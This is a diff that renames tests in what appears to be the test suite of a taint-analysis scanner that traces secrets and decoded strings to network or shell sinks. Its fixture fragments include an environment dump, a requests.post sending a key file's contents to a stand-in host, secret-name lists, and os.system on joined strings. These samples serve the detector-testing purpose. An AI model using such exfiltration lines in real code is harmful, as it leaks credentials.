@@ -1,4 +1,4 @@
-"""Data is followed through Python programs, coarsely and within bounds."""
+"""Taint analysis finds flows from sources to sinks, within a budget."""
 
 import pytest
 
@@ -56,7 +56,7 @@ if (all_of_it := dict(os.environ)):
     ],
     ids=["through functions", "through a list", "through an object", "fetched", "walrus"],
 )
-def test_data_is_followed_to_where_it_does_harm(source: str, kind: str, end: str) -> None:
+def test_tainted_data_is_tracked_to_a_sink(source: str, kind: str, end: str) -> None:
     found = taint_flows(source)
     assert found
     assert {(flow.kind, flow.end) for flow in found} == {(kind, end)}
@@ -73,7 +73,7 @@ def test_data_is_followed_to_where_it_does_harm(source: str, kind: str, end: str
     ],
     ids=["one variable", "one variable by get", "decoding", "fetching", "asking"],
 )
-def test_ordinary_programs_have_no_such_flow(source: str) -> None:
+def test_ordinary_programs_have_no_taint_flow(source: str) -> None:
     assert taint_flows(source) == ()
 
 
@@ -82,11 +82,11 @@ def test_ordinary_programs_have_no_such_flow(source: str) -> None:
     ["def (", "x = '\0'", "(" * 5_000, "a = " + "-" * 50_000 + "1", "'\\d' '\ud800'"],
     ids=["syntax", "nul", "brackets", "depth", "surrogate"],
 )
-def test_what_cannot_be_read_as_python_is_no_error(source: str) -> None:
+def test_invalid_python_has_no_flows(source: str) -> None:
     assert taint_flows(source) in {None, ()}
 
 
-def test_a_program_too_tangled_to_follow_is_given_up() -> None:
+def test_analysis_stops_when_the_budget_is_exhausted() -> None:
     values = ", ".join(f"a{number}" for number in range(500))
     source = SENDS + "x = " + "load(" * 60 + f"[{values}]" + ")" * 60
     source = source.replace("def load()", "def load(a=0)")
@@ -94,7 +94,7 @@ def test_a_program_too_tangled_to_follow_is_given_up() -> None:
     assert taint_flows(source)
 
 
-def test_a_flow_is_reported_at_the_line_that_sends() -> None:
+def test_a_flow_is_reported_at_the_line_of_the_sink() -> None:
     (finding,) = [
         f for f in scan_skill(python(SENDS)).findings if f.rule == "AB021" and f.line == 8
     ]
@@ -126,11 +126,11 @@ requests.post("https://tables.invalid", data=open(os.path.join(folder, "key")).r
     ("source", "kind"),
     [(SEARCHES, "secret"), (SPELT, "decoded"), (SPELT_OUT, "decoded"), (FOLDER, "secret")],
 )
-def test_searches_for_secrets_and_spelt_words_are_followed(source: str, kind: str) -> None:
+def test_secret_name_lists_and_chr_joins_are_sources(source: str, kind: str) -> None:
     assert {flow.kind for flow in taint_flows(source) or ()} == {kind}
 
 
-def test_names_of_one_kind_are_no_search() -> None:
+def test_names_of_one_provider_are_not_a_source() -> None:
     source = SEARCHES.replace('"STRIPE_SECRET_KEY", "DATABASE_URL"', '"GITHUB_KEY", "ROWS", 3')
     assert not taint_flows(source)
     assert not taint_flows("import os\nos.system(''.join(names))\n")
